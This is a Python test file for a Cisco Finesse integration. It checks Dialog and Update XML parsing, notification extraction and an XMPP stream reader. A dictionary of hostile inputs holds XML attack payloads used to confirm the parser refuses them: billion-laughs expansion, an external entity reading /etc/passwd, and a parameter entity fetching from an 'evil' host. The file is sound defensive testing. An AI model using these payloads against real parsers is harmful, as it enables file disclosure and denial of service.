"""Safe XML for Finesse: Dialog payloads shaped like the developer guide's, hostile input, the XMPP stream reader."""

from __future__ import annotations

import contextlib
import itertools
import xml.etree.ElementTree as ET
from datetime import UTC, datetime
from xml.sax.saxutils import escape

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bridge.pbx.cisco.dialog import dialog_id_from_uri, make_call_body, parse_dialog, parse_dialogs, parse_update
from bridge.pbx.cisco.errors import XmlRefusedError
from bridge.pbx.cisco.notifications import NS_PUBSUB, NS_PUBSUB_EVENT, extract_notifications, node_user
from bridge.pbx.cisco.xml import StreamClosed, StreamItem, StreamOpened, XmlStreamReader, parse_document

# The voice Dialog as the guide lays it out (values are ours).
DIALOG = """<Dialog>
  <associatedDialogUri>/finesse/api/Dialog/321654</associatedDialogUri>
  <id>16804377</id>
  <secondaryId>16804380</secondaryId>
  <mediaType>Voice</mediaType>
  <fromAddress>+15557654321</fromAddress>
  <toAddress>5551000</toAddress>
  <mediaProperties>
    <dialedNumber>5551000</dialedNumber>
    <callType>ACD_IN</callType>
    <DNIS>5551000</DNIS>
    <queueNumber>5022</queueNumber>
    <queueName>Sales</queueName>
    <callKeyCallId>217</callKeyCallId>
    <wrapUpItems><wrapUpItem>Wrong number</wrapUpItem></wrapUpItems>
    <callvariables>
      <CallVariable><name>callVariable1</name><value>Иван Петров</value></CallVariable>
      <CallVariable><name>callVariable10</name><value>B24-CALL-1</value></CallVariable>
      <CallVariable><name>user.empty</name><value></value></CallVariable>
    </callvariables>
  </mediaProperties>
  <participants>
    <Participant>
      <actions><action>HOLD</action><action>DROP</action></actions>
      <mediaAddress>1001</mediaAddress>
      <mediaAddressType>AGENT_DEVICE</mediaAddressType>
      <startTime>2026-11-28T10:00:00.120Z</startTime>
      <state>ACTIVE</state>
      <stateCause></stateCause>
      <stateChangeTime>2026-11-28T10:00:04.480Z</stateChangeTime>
    </Participant>
    <Participant>
      <mediaAddress>+15557654321</mediaAddress>
      <startTime>2026-11-28T10:00:00.120Z</startTime>
      <state>active</state>
      <stateCause>BUSY</stateCause>
      <stateChangeTime>not a time</stateChangeTime>
    </Participant>
    <Participant><mediaAddress>no-state</mediaAddress></Participant>
  </participants>
  <state>ACTIVE</state>
  <uri>/finesse/api/Dialog/16804377</uri>
</Dialog>"""


def _update(event: str, data: str, source: str = "/finesse/api/User/agent1/Dialogs") -> str:
    return f"<Update><data>{data}</data><event>{event}</event><requestId></requestId><source>{source}</source></Update>"


def _message(node: str, payload: str) -> ET.Element:
    return parse_document(
        f"<message xmlns='jabber:client' from='pubsub.finesse.sim'><event xmlns='{NS_PUBSUB_EVENT}'>"
        f"<items node='{node}'><item id='1'><notification xmlns='{NS_PUBSUB}'>{payload}</notification></item>"
        "</items></event></message>")


def test_dialog_fields_from_a_guide_shaped_payload() -> None:
    dialog = parse_dialog(parse_document(DIALOG))
    assert dialog is not None
    assert (dialog.id, dialog.state, dialog.secondary_id, dialog.associated_dialog_id) == (
        "16804377", "ACTIVE", "16804380", "321654")
    assert (dialog.from_address, dialog.to_address, dialog.call_type, dialog.dnis, dialog.dialed_number) == (
        "+15557654321", "5551000", "ACD_IN", "5551000", "5551000")
    assert dialog.variable("callVariable1") == "Иван Петров"
    assert dialog.variable("callVariable10") == "B24-CALL-1"
    assert dialog.variable("user.empty") == ""
    assert dialog.variable("callVariable2") is None
    agent, caller = dialog.participants  # the participant without a state is dropped
    assert (agent.media_address, agent.state, agent.address_type) == ("1001", "ACTIVE", "AGENT_DEVICE")
    assert agent.state_change_time == datetime(2026, 11, 28, 10, 0, 4, 480000, tzinfo=UTC)
    assert (caller.state, caller.state_cause, caller.state_change_time) == ("ACTIVE", "BUSY", None)
    assert dialog.latest_change == datetime(2026, 11, 28, 10, 0, 4, 480000, tzinfo=UTC)


def test_rest_dialogs_collection_with_declaration_and_namespace() -> None:
    body = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            f'<Dialogs xmlns="urn:example">{DIALOG}{DIALOG.replace("16804377", "16804399")}'
            '<Dialog><state>ACTIVE</state></Dialog></Dialogs>')
    assert [d.id for d in parse_dialogs(parse_document(body.encode()))] == ["16804377", "16804399"]


@pytest.mark.parametrize(("event", "data", "ids"), [
    ("POST", f"<dialogs>{DIALOG}</dialogs>", ["16804377"]),
    ("put", DIALOG, ["16804377"]),
    ("DELETE", f"<dialogs>{DIALOG.replace('<Dialog>', '<dialog>').replace('</Dialog>', '</dialog>')}</dialogs>",
     ["16804377"]),
])
def test_update_events_and_payload_shapes(event: str, data: str, ids: list[str]) -> None:
    update = parse_update(_update(event, data))
    assert update.event == event.upper()
    assert [d.id for d in update.dialogs] == ids
    assert update.errors == ()


def test_cti_error_update() -> None:
    data = ("<apiErrors><apiError><errorData>34</errorData><errorMessage>CF_RESOURCE_OUT_OF_SERVICE</errorMessage>"
            "<errorType>Call Operation Failure</errorType></apiError></apiErrors>")
    update = parse_update(_update("PUT", data, "/finesse/api/Dialog/12345"))
    assert update.dialogs == ()
    (error,) = update.errors
    assert (error.error_type, error.error_message, error.error_data) == (
        "Call Operation Failure", "CF_RESOURCE_OUT_OF_SERVICE", "34")
    assert dialog_id_from_uri(update.source) == "12345"


@pytest.mark.parametrize("uri", [None, "", "/finesse/api/User/1/Dialogs", "/finesse/api/Dialog/", "Dialog/7/x"])
def test_dialog_id_from_other_uris(uri: str | None) -> None:
    assert dialog_id_from_uri(uri) is None


HOSTILE = {
    "billion laughs": ('<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>'
                       "<Update>&b;</Update>"),
    "external entity": '<!DOCTYPE u [<!ENTITY x SYSTEM "file:///etc/passwd">]><Update>&x;</Update>',
    "parameter entity": '<!DOCTYPE u [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]><Update/>',
    "plain doctype": "<!DOCTYPE Update><Update/>",
    "undefined entity": "<Update>&nope;</Update>",
    "truncated": "<Update><data><Dialog><id>1</id>",
    "two roots": "<Update/><Update/>",
    "not xml": "hello",
    "empty": "",
    "deep": "<a>" * 200 + "</a>" * 200,
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_documents_are_refused(text: str) -> None:
    with pytest.raises(XmlRefusedError):
        parse_document(text)


def test_oversized_document_is_refused_before_parsing() -> None:
    with pytest.raises(XmlRefusedError, match="limit"):
        parse_document(b"<a>" + b"x" * 2000 + b"</a>", max_bytes=1000)


def test_update_root_is_required_and_long_values_are_cut() -> None:
    with pytest.raises(XmlRefusedError):
        parse_update(DIALOG)
    long = DIALOG.replace("<fromAddress>+15557654321", "<fromAddress>" + "9" * 5000)
    update = parse_update(_update("PUT", long))
    assert len(update.dialogs[0].from_address or "") == 512


def test_make_call_body_escapes_everything() -> None:
    body = make_call_body("1001", "5<5&", (("callVariable10", "a</value><x>"),))
    root = parse_document(body)
    assert root.findtext("requestedAction") == "MAKE_CALL"
    assert root.findtext("toAddress") == "5<5&"
    assert root.findtext("mediaProperties/callvariables/CallVariable/value") == "a</value><x>"


# ---- notifications --------------------------------------------------------------------------------------------


def test_escaped_and_inline_notification_payloads() -> None:
    payload = _update("POST", f"<dialogs>{DIALOG}</dialogs>")
    escaped = extract_notifications(_message("/finesse/api/User/agent1/Dialogs", escape(payload)))
    inline = extract_notifications(_message("/finesse/api/User/agent1/Dialogs", payload))
    for notes in (escaped, inline):
        (note,) = notes
        assert (note.user_id, note.update.event) == ("agent1", "POST")
        assert note.update.dialogs[0].id == "16804377"


def test_other_nodes_and_broken_payloads_are_skipped() -> None:
    assert extract_notifications(_message("/finesse/api/User/agent1", escape(_update("PUT", "")))) == []
    assert extract_notifications(_message("/finesse/api/User/agent1/Dialogs", escape("<Update><data>"))) == []
    assert extract_notifications(_message("/finesse/api/User/agent1/Dialogs",
                                          escape("<!DOCTYPE x [<!ENTITY a 'b'>]><Update/>"))) == []
    assert extract_notifications(parse_document("<presence/>")) == []
    assert node_user("/finesse/api/User/a/b/Dialogs") is None


@settings(max_examples=200, deadline=None)
@given(st.text(st.characters(exclude_categories=["Cs", "Cc"]) | st.sampled_from("<>&;/=\"'\n"), max_size=300))
def test_arbitrary_notification_text_never_escapes_as_an_exception(text: str) -> None:
    notes = extract_notifications(_message("/finesse/api/User/agent1/Dialogs", escape(text)))
    assert all(n.user_id == "agent1" for n in notes)


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=300))
def test_arbitrary_bytes_parse_or_are_refused(data: bytes) -> None:
    with contextlib.suppress(XmlRefusedError):
        parse_document(data)


# ---- stream reader --------------------------------------------------------------------------------------------

HEADER = (b"<?xml version='1.0'?><stream:stream xmlns='jabber:client' "
          b"xmlns:stream='http://etherx.jabber.org/streams' from='finesse.sim' id='s1' version='1.0'>")
STANZAS = [
    b"<stream:features><mechanisms xmlns='urn:ietf:params:xml:ns:xmpp-sasl'><mechanism>PLAIN</mechanism>"
    b"</mechanisms></stream:features>",
    "<message to='a@b'><body>Привет &amp; &lt;hi&gt;</body></message>".encode(),
    b"<iq type='get' id='p1'><ping xmlns='urn:xmpp:ping'/></iq>",
]
STREAM = HEADER + b" \n".join(STANZAS) + b"</stream:stream>"


def _summary(items: list[StreamItem]) -> list[object]:
    return [("open", dict(i.attrs)) if isinstance(i, StreamOpened) else "close" if isinstance(i, StreamClosed)
            else ET.tostring(i) for i in items]


def test_stream_reader_whole() -> None:
    items = XmlStreamReader().feed(STREAM)
    assert isinstance(items[0], StreamOpened) and items[0].attrs["id"] == "s1"
    assert isinstance(items[-1], StreamClosed)
    features, message, iq = items[1:-1]
    assert isinstance(features, ET.Element) and features.tag == "{http://etherx.jabber.org/streams}features"
    assert isinstance(message, ET.Element) and message.findtext("{jabber:client}body") == "Привет & <hi>"
    assert isinstance(iq, ET.Element) and iq.find("{urn:xmpp:ping}ping") is not None


@settings(max_examples=300, deadline=None)
@given(st.lists(st.integers(min_value=0, max_value=len(STREAM)), max_size=40))
def test_stream_reader_is_indifferent_to_how_bytes_are_split(cuts: list[int]) -> None:
    reader = XmlStreamReader()
    items: list[StreamItem] = []
    edges = [0, *sorted(cuts), len(STREAM)]
    for start, end in itertools.pairwise(edges):
        items.extend(reader.feed(STREAM[start:end]))
    assert _summary(items) == _summary(list(XmlStreamReader().feed(STREAM)))


def test_stream_reader_refuses_dtd_and_stays_failed_until_reset() -> None:
    reader = XmlStreamReader()
    with pytest.raises(XmlRefusedError):
        reader.feed(b"<!DOCTYPE x [<!ENTITY a 'b'>]>" + HEADER)
    with pytest.raises(XmlRefusedError, match="reset"):
        reader.feed(HEADER)
    reader.reset()
    assert isinstance(reader.feed(HEADER)[0], StreamOpened)


def test_stream_reader_refuses_entities_inside_a_stanza() -> None:
    reader = XmlStreamReader()
    reader.feed(HEADER)
    with pytest.raises(XmlRefusedError):
        reader.feed(b"<message>&xxe;</message>")


def test_stream_reader_bounds_a_stanza_that_never_ends() -> None:
    reader = XmlStreamReader(max_stanza_bytes=10_000)
    reader.feed(HEADER)
    reader.feed(b"<message><body>")
    with pytest.raises(XmlRefusedError, match="limit"):
        for _ in range(20):
            reader.feed(b"x" * 1000)


def test_stream_reader_restart_after_sasl() -> None:
    reader = XmlStreamReader()
    reader.feed(HEADER + b"<success xmlns='urn:ietf:params:xml:ns:xmpp-sasl'/>")
    reader.reset()
    items = reader.feed(HEADER + b"<stream:features/>")
    assert isinstance(items[0], StreamOpened) and len(items) == 2
